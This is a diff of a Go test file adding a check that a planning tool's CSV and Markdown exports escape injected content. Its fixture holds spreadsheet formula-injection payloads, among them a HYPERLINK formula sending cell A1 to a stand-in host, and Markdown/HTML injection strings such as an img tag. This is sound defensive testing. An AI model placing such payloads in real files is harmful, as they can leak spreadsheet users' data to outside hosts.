@@ -4,8 +4,10 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -122,5 +124,42 @@ func TestEmitConfigPathIsNotCheckpoint(t *testing.T) {
 		if !strings.Contains(out, c.want) || strings.Contains(out, c.dir) || !strings.Contains(out, "# note: ") {
 			t.Errorf("%s:\n%s\nwant %q and a note", c.dir, out, c.want)
 		}
+	}
+}
+
+// TestPlanTableExportsAreInert: --format csv writes no cell a spreadsheet
+// runs as a formula and --format markdown no cell that breaks the table or
+// becomes a link, image or HTML, whatever text reaches a row (the names
+// are checked where they enter, catalog.CheckName; the row's notes and
+// price source are free text); numbers stay numbers.
+func TestPlanTableExportsAreInert(t *testing.T) {
+	p := planJSON{Workload: "serving", Currency: "USD", Rows: []planRowJSON{{
+		Recommendation: "cheapest", Provider: "=HYPERLINK(\"http://x.example/?\"&A1)", InstanceName: "\n=1+1",
+		GPU: "@SUM(A1)", Instances: 1, GPUs: 8, Pricing: "+cmd", PricePerHourDisp: 12.5, AsOf: "-2+3",
+		Why: "a|b\n<img src=x>![t](http://x.example)", Binding: "\t=1", EngineLimit: "\r=1", Replicas: 2,
+	}}}
+	var csvOut bytes.Buffer
+	writeCSV(&csvOut, p)
+	recs, err := csv.NewReader(&csvOut).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("CSV %d records, %v:\n%s", len(recs), err, csvOut.String())
+	}
+	for i, cell := range recs[1] {
+		if _, err := strconv.ParseFloat(cell, 64); err == nil {
+			continue
+		}
+		if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
+			t.Errorf("CSV column %s: %q opens as a formula", recs[0][i], cell)
+		}
+	}
+	if recs[1][1] != `'=HYPERLINK("http://x.example/?"&A1)` || recs[1][2] != "'\n=1+1" || recs[1][8] != "12.50" {
+		t.Errorf("CSV cells %q", recs[1])
+	}
+	var md bytes.Buffer
+	writeMarkdown(&md, p)
+	lines := strings.Split(strings.TrimSuffix(md.String(), "\n"), "\n")
+	if len(lines) != 3 || strings.Count(lines[2], "|")-strings.Count(lines[2], `\|`) != strings.Count(lines[0], "|") ||
+		strings.Contains(md.String(), "<img") || strings.Contains(md.String(), "![") || strings.Contains(strings.ReplaceAll(md.String(), `\]`, ""), "](") {
+		t.Errorf("Markdown table:\n%s", md.String())
 	}
 }
